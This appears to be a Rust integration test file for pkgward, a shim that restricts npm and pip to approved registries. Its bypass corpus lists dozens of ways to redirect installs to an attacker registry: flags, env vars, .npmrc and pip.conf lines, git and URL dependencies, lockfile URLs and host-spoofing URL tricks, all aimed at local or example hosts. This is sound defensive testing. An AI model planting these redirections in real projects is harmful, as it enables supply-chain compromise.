//! Approved registries (issue: registries), end to end: the real npm and pip
//! behind the pkgward shims, fetching from registries this test serves on
//! 127.0.0.1, and an unapproved listener that must never be reached.

mod support;

use std::ffi::OsString;
use std::path::PathBuf;
use std::process::Command;
use std::sync::OnceLock;

use support::guard::{evil, text, to_env, tree, Guarded};
use support::{shared, NpmPackage, Sandbox, Wheel};

/// The fixtures every test can install.
fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_npm(
            &NpmPackage::new("pw-reg-dep", "1.0.0").file("index.js", "module.exports = 1;\n"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-reg-app", "1.2.0")
                .dep("pw-reg-dep", "^1.0.0")
                .file("index.js", "module.exports = require('pw-reg-dep') + 1;\n"),
        );
        r.publish_wheel(&Wheel::new("pw-reg-wheel", "2.0.0").module("VALUE = 2\n"));
    });
}

fn guarded(policy: &str) -> Guarded {
    fixtures();
    Guarded::new(policy)
}

fn npm_policy() -> String {
    format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\npypi = [\"{}\"]\n",
        shared().npm_url(),
        shared().pypi_index_url()
    )
}

#[test]
fn approved_npm_install_is_the_same_as_without_the_shim() {
    let g = guarded(&npm_policy());
    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    let out = g.npm(&["install", "pw-reg-app"], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    // The same install with the real npm directly, in a second sandbox.
    let bare = Sandbox::new();
    bare.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    let direct = bare
        .npm(&shared().npm_url())
        .args(["install", "pw-reg-app"])
        .output()
        .unwrap();
    assert!(direct.status.success(), "{}", text(&direct.stderr));
    assert_eq!(out.status.code(), direct.status.code());
    assert_eq!(
        tree(&g.sb.work.join("node_modules")),
        tree(&bare.work.join("node_modules"))
    );
    assert_eq!(
        std::fs::read(g.sb.work.join("package-lock.json")).unwrap(),
        std::fs::read(bare.work.join("package-lock.json")).unwrap()
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow");
    assert_eq!(
        inv["classification"]["sources"][0]["origin"]["var"],
        "npm_config_registry"
    );
    // npm ci from the lockfile the approved registry produced: allowed too.
    std::fs::remove_dir_all(g.sb.work.join("node_modules")).unwrap();
    let ci = g.npm(&["ci"], &[]);
    assert!(ci.status.success(), "{}", text(&ci.stderr));
    assert_eq!(g.last_invocation()["classification"]["lockfile_entries"], 2);
}

#[test]
fn approved_pip_install_is_the_same_as_without_the_shim() {
    let g = guarded(&npm_policy());
    let target = g.sb.root().join("site");
    let out = g.pip(
        &[
            "install",
            "--target",
            target.to_str().unwrap(),
            "pw-reg-wheel",
        ],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(target.join("pw_reg_wheel/__init__.py").is_file());
    let bare = Sandbox::new();
    let bare_target = bare.root().join("site");
    let direct = bare
        .pip(&shared().pypi_index_url())
        .args([
            "install",
            "--target",
            bare_target.to_str().unwrap(),
            "pw-reg-wheel",
        ])
        .output()
        .unwrap();
    assert!(direct.status.success());
    assert_eq!(
        tree(&target.join("pw_reg_wheel")),
        tree(&bare_target.join("pw_reg_wheel"))
    );
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
}

/// One bypass attempt: a tool, its arguments, extra environment, files
/// written into the project (`work/`) or HOME, and what the denial must name.
struct Bypass {
    name: &'static str,
    tool: &'static str,
    args: Vec<String>,
    env: Vec<(String, String)>,
    files: Vec<(String, String)>,
    names: &'static str,
}

fn bypass_corpus() -> Vec<Bypass> {
    let evil_port = evil().port();
    let evil_url = format!("http://127.0.0.1:{evil_port}/");
    let e = |s: &str| s.replace("EVIL/", &evil_url);
    let approved_npm = shared().npm_url();
    let port = shared().server.port();
    let b =
        |name, tool, args: &[&str], env: &[(&str, &str)], files: &[(&str, &str)], names| Bypass {
            name,
            tool,
            args: args.iter().map(|a| e(a)).collect(),
            env: env.iter().map(|(k, v)| (k.to_string(), e(v))).collect(),
            files: files.iter().map(|(p, t)| (p.to_string(), e(t))).collect(),
            names,
        };
    let trick = |name, url: String| Bypass {
        name,
        tool: "npm",
        args: vec![
            "install".into(),
            "pw-reg-app".into(),
            format!("--registry={url}"),
        ],
        env: vec![],
        files: vec![],
        names: "--registry",
    };
    let mut v = vec![
        // npm: command line.
        b("npm --registry", "npm", &["install", "pw-reg-app", "--registry", "EVIL/"], &[], &[], "--registry"),
        b("npm --registry=", "npm", &["install", "pw-reg-app", "--registry=EVIL/"], &[], &[], "--registry"),
        b("npm abbreviation --reg", "npm", &["i", "pw-reg-app", "--reg=EVIL/"], &[], &[], "--reg"),
        b("npm abbreviation -regi", "npm", &["i", "pw-reg-app", "-regi=EVIL/"], &[], &[], "--regi"),
        b("npm alias isntall", "npm", &["isntall", "pw-reg-app", "--registry=EVIL/"], &[], &[], "--registry"),
        b("npm ci --registry", "npm", &["ci", "--registry=EVIL/"], &[], &[], "--registry"),
        b("npm scope flag", "npm", &["install", "@evil/pkg", "--@evil:registry=EVIL/"], &[], &[], "@evil:registry"),
        b("npm tarball URL", "npm", &["install", "EVIL/x/-/x-1.0.0.tgz"], &[], &[], "EVIL"),
        b("npm alias to URL", "npm", &["install", "left@EVIL/x.tgz"], &[], &[], "left@"),
        b("npm git+https", "npm", &["install", "git+https://git.example.com/a/b.git"], &[], &[], "git"),
        b("npm github shorthand", "npm", &["install", "github:evil/pkg"], &[], &[], "github:evil/pkg"),
        b("npm user/repo shorthand", "npm", &["install", "evil/pkg"], &[], &[], "evil/pkg"),
        b("npx remote tarball", "npx", &["--yes", "EVIL/tool.tgz"], &[], &[], "EVIL"),
        b("npm exec --package URL", "npm", &["exec", "--package=EVIL/tool.tgz", "--", "tool"], &[], &[], "--package"),
        // npm: environment.
        b("npm_config_registry", "npm", &["install", "pw-reg-app"], &[("npm_config_registry", "EVIL/")], &[], "npm_config_registry"),
        b("NPM_CONFIG_REGISTRY upper", "npm", &["install", "pw-reg-app"], &[("NPM_CONFIG_REGISTRY", "EVIL/")], &[], "NPM_CONFIG_REGISTRY"),
        b("npm scope env", "npm", &["install", "@evil/pkg"], &[("npm_config_@evil:registry", "EVIL/")], &[], "@evil:registry"),
        b("npm userconfig env", "npm", &["install", "@evil/pkg"], &[("npm_config_userconfig", "ALT_NPMRC")], &[("ALT_NPMRC", "@evil:registry=EVIL/\n")], "ALT_NPMRC:1"),
        // npm: config files.
        b("project .npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("work/.npmrc", "@evil:registry=EVIL/\n")], ".npmrc:1"),
        b("project .npmrc scope after comments", "npm", &["install"], &[], &[("work/.npmrc", "; hi\n# there\n@evil:registry = \"EVIL/\"\n")], ".npmrc:3"),
        b("user .npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("home/.npmrc", "@evil:registry=EVIL/\n")], ".npmrc:1"),
        b(".npmrc with ${VAR}", "npm", &["install", "@evil/pkg"], &[("EVIL_URL", "EVIL/")], &[("work/.npmrc", "@evil:registry=${EVIL_URL}\n")], ".npmrc:1"),
        b("global npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("etc/npmrc", "@evil:registry=EVIL/\n")], "npmrc:1"),
        b(".npmrc in a parent package root", "npm", &["install", "@evil/pkg"], &[], &[("work/.npmrc", "@evil:registry=EVIL/\n"), ("work/sub/.keep", "")], ".npmrc:1"),
        // npm: the manifests of the project (no lockfile): git and URL
        // dependencies, its workspaces', a local directory's.
        b("package.json github: dependency", "npm", &["install"], &[], &[("work/package.json", "{\n  \"dependencies\": {\n    \"x\": \"github:evil/pkg\"\n  }\n}\n")], "package.json:3 declares the dependency `x` from git: github:evil/pkg"),
        b("package.json user/repo dependency", "npm", &["install"], &[], &[("work/package.json", "{\"devDependencies\": {\"x\": \"evil/pkg#main\"}}")], "`x` from git: evil/pkg#main"),
        b("package.json git+http dependency", "npm", &["install", "pw-reg-app"], &[], &[("work/package.json", "{\"optionalDependencies\": {\"x\": \"git+EVIL/x.git\"}}")], "`x` from git: git+http://EVIL"),
        b("package.json git+ssh, gitlab:, bitbucket:, gist:", "npm", &["ci"], &[], &[("work/package.json", "{\"dependencies\": {\"a\": \"git+ssh://git@git.example.com/a.git\", \"b\": \"gitlab:e/b\", \"c\": \"bitbucket:e/c\", \"d\": \"gist:0123abc\", \"e\": \"git://git.example.com/e.git\"}}")], "`d` from git: gist:0123abc"),
        b("package.json URL dependency", "npm", &["install"], &[], &[("work/package.json", "{\"dependencies\": {\"x\": \"EVIL/x.tgz\"}}")], "`x` as http://EVIL"),
        b("workspace package.json git dependency", "npm", &["install"], &[], &[("work/package.json", "{\"workspaces\": [\"packages/*\"]}"), ("work/packages/a/package.json", "{\"name\": \"a\", \"dependencies\": {\"y\": \"github:evil/y\"}}")], "packages/a/package.json:1"),
        b("file: directory's git dependency", "npm", &["install"], &[], &[("work/package.json", "{\"dependencies\": {\"l\": \"file:../lib\"}}"), ("lib/package.json", "{\"name\": \"l\", \"dependencies\": {\"y\": \"github:evil/y\"}}")], "lib/package.json:1"),
        b("--prefix project's git dependency", "npm", &["install", "--prefix", "../other"], &[], &[("other/package.json", "{\"dependencies\": {\"y\": \"github:evil/y\"}}")], "other/package.json:1"),
        b("project .npmrc node-gyp", "npm", &["install"], &[], &[("work/.npmrc", "node-gyp=./tools/build.sh\n")], ".npmrc:1"),
        b("npm_config_node_gyp", "npm", &["install"], &[("NPM_CONFIG_NODE_GYP", "/tmp/build.sh")], &[], "NPM_CONFIG_NODE_GYP"),
        // npm: lockfile.
        b("package-lock resolved", "npm", &["ci"], &[], &[("work/package-lock.json", "{\n \"lockfileVersion\": 3,\n \"packages\": {\n  \"\": {\"name\":\"app\"},\n  \"node_modules/x\": {\n   \"version\": \"1.0.0\",\n   \"resolved\": \"EVIL/x/-/x-1.0.0.tgz\"\n  }\n }\n}\n")], "package-lock.json:7"),
        b("npm-shrinkwrap resolved", "npm", &["install"], &[], &[("work/npm-shrinkwrap.json", "{\"lockfileVersion\":1,\"dependencies\":{\"x\":{\"version\":\"1.0.0\",\"resolved\":\"EVIL/x.tgz\"}}}")], "npm-shrinkwrap.json"),
        // pip: command line.
        b("pip -i", "pip", &["install", "-i", "EVIL/simple", "six"], &[], &[], "-i"),
        b("pip -iURL", "pip", &["install", "-iEVIL/simple", "six"], &[], &[], "-i"),
        b("pip --index-url=", "pip", &["install", "--index-url=EVIL/simple", "six"], &[], &[], "--index-url"),
        b("pip --extra-index-url", "pip", &["install", "--extra-index-url", "EVIL/simple", "six"], &[], &[], "--extra-index-url"),
        b("pip abbreviation --extra", "pip", &["install", "--extra=EVIL/simple", "six"], &[], &[], "--extra"),
        b("pip abbreviation --ind", "pip", &["install", "--ind", "EVIL/simple", "six"], &[], &[], "--ind"),
        b("pip -f", "pip", &["install", "-f", "EVIL/links", "six"], &[], &[], "-f"),
        b("pip --find-links=", "pip", &["download", "--find-links=EVIL/links", "six"], &[], &[], "--find-links"),
        b("pip --trusted-host", "pip", &["install", "--trusted-host", "127.0.0.1", "six"], &[], &[], "--trusted-host"),
        b("pip direct wheel URL", "pip", &["install", "EVIL/six-1.0-py3-none-any.whl"], &[], &[], "EVIL"),
        b("pip name @ URL", "pip", &["install", "six @ EVIL/six.whl"], &[], &[], "six @"),
        b("pip git+", "pip", &["install", "git+https://git.example.com/six.git"], &[], &[], "git+"),
        b("pip3 -i", "pip3", &["install", "-i", "EVIL/simple", "six"], &[], &[], "-i"),
        b("pip wheel -i", "pip", &["wheel", "-i", "EVIL/simple", "six"], &[], &[], "-i"),
        // pip: environment and config files.
        b("PIP_INDEX_URL", "pip", &["install", "six"], &[("PIP_INDEX_URL", "EVIL/simple")], &[], "PIP_INDEX_URL"),
        b("PIP_EXTRA_INDEX_URL", "pip", &["install", "six"], &[("PIP_EXTRA_INDEX_URL", "EVIL/simple")], &[], "PIP_EXTRA_INDEX_URL"),
        b("PIP_FIND_LINKS", "pip", &["install", "six"], &[("PIP_FIND_LINKS", "EVIL/links")], &[], "PIP_FIND_LINKS"),
        b("PIP_TRUSTED_HOST", "pip", &["install", "six"], &[("PIP_TRUSTED_HOST", "127.0.0.1")], &[], "PIP_TRUSTED_HOST"),
        b("PIP_CONFIG_FILE find-links", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[global]\nfind-links = EVIL/links\n")], "ALT_PIPCONF:2"),
        b("PIP_CONFIG_FILE install section", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[install]\nextra-index-url =\n    EVIL/simple\n")], "ALT_PIPCONF:2"),
        b("PIP_CONSTRAINT file's index", "pip", &["install", "six"], &[("PIP_CONSTRAINT", "cons.txt")], &[("work/cons.txt", "--extra-index-url EVIL/simple\n")], "cons.txt:1"),
        b("PIP_REQUIREMENT file's URL", "pip", &["install", "six"], &[("PIP_REQUIREMENT", "a.txt req.txt")], &[("work/a.txt", "six\n"), ("work/req.txt", "six @ EVIL/six.whl\n")], "req.txt:1"),
        b("pip install . whose build-system requires a URL", "pip", &["install", "."], &[], &[("work/pyproject.toml", "[project]\nname = \"app\"\nversion = \"0.1\"\n\n[build-system]\nrequires = [\"setuptools @ EVIL/setuptools-70.0-py3-none-any.whl\"]\nbuild-backend = \"setuptools.build_meta\"\n")], "pyproject.toml:6"),
        b("pip install -e DIR with a git dependency", "pip", &["install", "-e", "sub"], &[], &[("work/sub/pyproject.toml", "[project]\nname = \"sub\"\nversion = \"0.1\"\ndependencies = [\"six @ git+EVIL/six.git\"]\n")], "sub/pyproject.toml:4"),
        // pip: requirement files.
        b("requirements -i", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-i EVIL/simple\nsix\n")], "req.txt:1"),
        b("requirements --extra-index-url", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "six\n--extra-index-url EVIL/simple\n")], "req.txt:2"),
        b("requirements nested -r", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-r more/inner.txt\n"), ("work/more/inner.txt", "--find-links=EVIL/links\n")], "inner.txt:1"),
        b("requirements -c constraints", "pip", &["install", "-c", "cons.txt", "six"], &[], &[("work/cons.txt", "six @ EVIL/six.whl\n")], "cons.txt:1"),
        b("requirements ${VAR}", "pip", &["install", "-r", "req.txt"], &[("IDX", "EVIL/simple")], &[("work/req.txt", "--index-url ${IDX}\n")], "req.txt:1"),
        b("requirements line continuation", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "--extra-index-url \\\n  EVIL/simple\n")], "req.txt:1"),
        b("requirements direct URL", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "# pinned\nEVIL/pkg-1.0.tar.gz\n")], "req.txt:2"),
        b("requirements --trusted-host", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "--trusted-host 127.0.0.1\n")], "req.txt:1"),
    ];
    // URL tricks against the approved loopback registry.
    let host = format!("127.0.0.1:{port}");
    v.extend([
        trick(
            "approved@evil",
            format!("http://{host}@127.0.0.1:{evil_port}/npm/"),
        ),
        trick(
            "approved.evil",
            format!("http://registry.example.com.evil.test:{port}/npm/"),
        ),
        trick(
            "userinfo on the approved URL",
            format!("http://user:pw@{host}/npm/"),
        ),
        trick("path prefix /npm-evil", format!("http://{host}/npm-evil/")),
        trick("sibling path", format!("http://{host}/npmx/")),
        trick(
            "dot segments out of the prefix",
            format!("http://{host}/npm/../evil/"),
        ),
        trick(
            "encoded dot segments",
            format!("http://{host}/npm/%2e%2e/evil/"),
        ),
        trick(
            "https downgrade",
            approved_npm.replace("http://", "https://"),
        ),
        trick(
            "another port on the same IP",
            format!("http://127.0.0.1:{evil_port}/npm/"),
        ),
        trick(
            "IP literal in decimal, other port",
            format!("http://2130706433:{evil_port}/npm/"),
        ),
        trick(
            "localhost is not the IP",
            format!("http://localhost:{port}/npm/"),
        ),
        trick(
            "IDN look-alike",
            format!("http://registry.\u{0435}xample.com:{port}/npm/"),
        ),
        trick(
            "trailing-dot host",
            format!("http://evil.test.:{port}/npm/"),
        ),
    ]);
    v
}

fn apply(g: &Guarded, b: &Bypass) -> (Vec<String>, Vec<(String, String)>) {
    let root = g.sb.root();
    let fix = |s: &str| {
        s.replace("ALT_NPMRC", &root.join("alt-npmrc").display().to_string())
            .replace(
                "ALT_PIPCONF",
                &root.join("alt-pip.conf").display().to_string(),
            )
    };
    for (rel, text) in &b.files {
        let p = if rel.starts_with("ALT_") {
            PathBuf::from(fix(rel))
        } else {
            root.join(rel)
        };
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
    }
    (
        b.args.iter().map(|a| fix(a)).collect(),
        b.env.iter().map(|(k, v)| (k.clone(), fix(v))).collect(),
    )
}

#[test]
fn bypass_corpus_is_denied_in_enforce_mode_before_any_request() {
    let corpus = bypass_corpus();
    assert!(corpus.len() >= 60, "the corpus has {} cases", corpus.len());
    let before = evil().connections().len();
    let mut failures = Vec::new();
    for b in &corpus {
        let g = guarded(&npm_policy());
        let (args, env) = apply(&g, b);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let out = if b.tool.starts_with("pip") {
            g.pip(&args, &env)
        } else {
            let mut o = g.npm(&args, &env);
            if b.tool == "npx" {
                let reg = shared().npm_url();
                o =
                    g.sb.command("npx", &[g.sb.npm_env(&reg), g.pkgward_env(), to_env(&env)])
                        .args(&args)
                        .output()
                        .unwrap();
            }
            o
        };
        let err = text(&out.stderr);
        let names = b
            .names
            .replace("EVIL", &format!("127.0.0.1:{}", evil().port()))
            .replace(
                "ALT_NPMRC",
                &g.sb.root().join("alt-npmrc").display().to_string(),
            )
            .replace(
                "ALT_PIPCONF",
                &g.sb.root().join("alt-pip.conf").display().to_string(),
            );
        if out.status.code() != Some(77)
            || !err.contains("pkgward: denied")
            || !err.contains(&names)
        {
            failures.push(format!("{}: exit {:?}\n{err}", b.name, out.status.code()));
            continue;
        }
        let inv = g.last_invocation();
        if inv["decision"]["action"] != "deny" {
            failures.push(format!("{}: recorded {}", b.name, inv["decision"]));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} not denied:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the unapproved listener was reached"
    );
}

#[test]
fn bypass_corpus_is_recorded_in_audit_mode() {
    // Audit mode runs the tool: fake npm/pip that only record their argv, so
    // nothing is fetched, while pkgward records every would-deny.
    let policy = npm_policy().replace("\"enforce\"", "\"audit\"");
    let mut failures = Vec::new();
    let corpus = bypass_corpus();
    for b in &corpus {
        let g = guarded(&policy);
        for t in ["npm", "npx", "pip", "pip3"] {
            let p = g.real.join(t);
            let _ = std::fs::remove_file(&p);
            std::fs::write(
                &p,
                "#!/bin/sh\necho \"$0 $*\" > \"$FIXTURE_MARKER_DIR/ran\"\n",
            )
            .unwrap();
            std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755))
                .unwrap();
        }
        let (args, env) = apply(&g, b);
        let env: Vec<(String, OsString)> = env
            .into_iter()
            .map(|(k, v)| (k, OsString::from(v)))
            .collect();
        let idx = shared().pypi_index_url();
        let reg = shared().npm_url();
        let tool_env = if b.tool.starts_with("pip") {
            g.sb.pip_env(&idx)
        } else {
            g.sb.npm_env(&reg)
        };
        let out =
            g.sb.command(b.tool, &[tool_env, g.pkgward_env(), env])
                .args(&args)
                .output()
                .unwrap();
        let inv = g.last_invocation();
        if out.status.code() != Some(0)
            || g.sb.marker("ran").is_none()
            || inv["decision"]["action"] != "would-deny"
        {
            failures.push(format!(
                "{}: exit {:?}, recorded {}",
                b.name,
                out.status.code(),
                inv["decision"]
            ));
        }
        if !out.stdout.is_empty() && !text(&out.stdout).is_empty() {
            failures.push(format!("{}: pkgward wrote to stdout", b.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
}

#[test]
fn legit_corpus_has_no_denials() {
    let reg = shared().npm_url();
    let idx = shared().pypi_index_url();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\", \"https://npm.example.com/private/\"]\npypi = [\"{idx}\", \"https://pypi.example.com/simple/\"]\n"
    );
    struct Legit {
        name: &'static str,
        args: Vec<String>,
        env: Vec<(&'static str, String)>,
        files: Vec<(&'static str, String)>,
    }
    let l = |name,
             args: &[&str],
             env: &[(&'static str, &str)],
             files: &[(&'static str, String)]| Legit {
        name,
        args: args.iter().map(|a| a.to_string()).collect(),
        env: env.iter().map(|(k, v)| (*k, v.to_string())).collect(),
        files: files.to_vec(),
    };
    let no_slash = format!("--registry={}", reg.trim_end_matches('/'));
    let upper_idx = idx.replace("http://", "HTTP://");
    let lock = format!(
        "{{\"lockfileVersion\":3,\"packages\":{{\"\":{{}},\"node_modules/x\":{{\"resolved\":\"{reg}x/-/x-1.0.0.tgz\"}},\"node_modules/l\":{{\"link\":true,\"resolved\":\"../l\"}}}}}}"
    );
    let cases = vec![
        l("npm --version", &["--version"], &[], &[]),
        l(
            "approved scope in .npmrc",
            &["install", "@acme/x"],
            &[],
            &[(
                "work/.npmrc",
                "@acme:registry=https://npm.example.com/private/acme/\n".into(),
            )],
        ),
        l(
            "approved registry, no trailing slash",
            &["install", "x", &no_slash],
            &[],
            &[],
        ),
        l(
            "lockfile from the approved registry",
            &["ci"],
            &[],
            &[("work/package-lock.json", lock)],
        ),
        l("local path spec", &["install", "./local-pkg"], &[], &[]),
        l("pip approved -i", &["install", "-i", &idx, "six"], &[], &[]),
        l(
            "pip requirements with approved extra index",
            &["install", "-r", "req.txt"],
            &[],
            &[(
                "work/req.txt",
                "--extra-index-url https://pypi.example.com/simple/\nsix==1.0\n./local\n".into(),
            )],
        ),
        l(
            "pip local find-links dir",
            &["install", "--find-links", "/opt/wheels", "six"],
            &[],
            &[],
        ),
        l(
            "pip scheme and host case",
            &["install", "-i", &upper_idx, "six"],
            &[("PIP_EXTRA_INDEX_URL", "HTTPS://PYPI.EXAMPLE.COM/simple/")],
            &[],
        ),
    ];
    let mut failures = Vec::new();
    for Legit {
        name,
        args,
        env,
        files,
    } in &cases
    {
        let g = guarded(&policy);
        for t in ["npm", "pip"] {
            let p = g.real.join(t);
            let _ = std::fs::remove_file(&p);
            std::fs::write(&p, "#!/bin/sh\nexit 0\n").unwrap();
            std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755))
                .unwrap();
        }
        for (rel, text) in files {
            let p = g.sb.root().join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = if name.starts_with("pip") {
            g.pip(&args, &env)
        } else {
            g.npm(&args, &env)
        };
        if out.status.code() != Some(0) {
            failures.push(format!("{name}: {}", text(&out.stderr)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn npm_mirror_is_forced_over_a_hostile_npmrc() {
    let reg = shared().npm_url();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\"]\n[mirrors]\nnpm = \"{reg}\"\n"
    );
    let g = guarded(&policy);
    let before = evil().connections().len();
    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    // A cloned repo's .npmrc points at the attacker.
    let npmrc = format!("registry=http://127.0.0.1:{}/\n", evil().port());
    g.sb.write(".npmrc", &npmrc);
    // The user's environment does not set the registry this time.
    let mut c = g.sb.command("npm", &[g.sb.npm_env(&reg), g.pkgward_env()]);
    c.env_remove("npm_config_registry")
        .args(["install", "pw-reg-app"]);
    let out = c.output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(g
        .sb
        .work
        .join("node_modules/pw-reg-app/package.json")
        .is_file());
    assert_eq!(
        evil().connections().len(),
        before,
        "the .npmrc registry was contacted"
    );
    // The file is untouched, and the record says what was forced over what.
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join(".npmrc")).unwrap(),
        npmrc
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow");
    let forced = &inv["decision"]["forced"];
    assert_eq!(forced["mirror"], reg);
    assert!(forced["env"].to_string().contains("npm_config_registry"));
    assert!(forced["overridden"][0]["origin"]["path"]
        .as_str()
        .unwrap()
        .ends_with(".npmrc"));
}

#[test]
fn pip_mirror_is_forced_over_a_hostile_config() {
    let idx = shared().pypi_index_url();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\npypi = [\"{idx}\"]\n[mirrors]\npypi = \"{idx}\"\n"
    );
    let g = guarded(&policy);
    let before = evil().connections().len();
    let conf = g.sb.root().join("evil-pip.conf");
    std::fs::write(
        &conf,
        format!("[global]\nindex-url = http://127.0.0.1:{p}/simple\nextra-index-url = http://127.0.0.1:{p}/more\n", p = evil().port()),
    )
    .unwrap();
    let target = g.sb.root().join("site");
    let mut c = g.sb.command("pip", &[g.sb.pip_env(&idx), g.pkgward_env()]);
    c.env_remove("PIP_INDEX_URL")
        .env("PIP_CONFIG_FILE", &conf)
        .args([
            "install",
            "--target",
            target.to_str().unwrap(),
            "pw-reg-wheel",
        ]);
    let out = c.output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(target.join("pw_reg_wheel/__init__.py").is_file());
    assert_eq!(
        evil().connections().len(),
        before,
        "the configured index was contacted"
    );
    let inv = g.last_invocation();
    assert_eq!(
        inv["decision"]["forced"]["overridden"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn denial_message_says_what_which_and_how() {
    let g = guarded(&npm_policy());
    g.sb.write(
        ".npmrc",
        "# team settings\nregistry=http://registry.evil.test/\n",
    );
    let mut c =
        g.sb.command("npm", &[g.sb.npm_env(&shared().npm_url()), g.pkgward_env()]);
    let out = c
        .env_remove("npm_config_registry")
        .args(["install", "left-pad"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(77));
    let err = text(&out.stderr);
    let work = g.sb.work.display().to_string();
    assert!(
        err.contains(&format!(
            "{work}/.npmrc:2 sets registry = http://registry.evil.test/"
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!("approved npm registries: {}", shared().npm_url())),
        "{err}"
    );
    assert!(
        err.contains(&format!("(set at {}:", g.policy.display())),
        "{err}"
    );
    assert!(err.contains("fix:"), "{err}");
    assert!(out.stdout.is_empty());
    for line in err.lines() {
        assert!(line.starts_with("pkgward: "), "{line}");
    }
    let _ = Command::new("true");
}
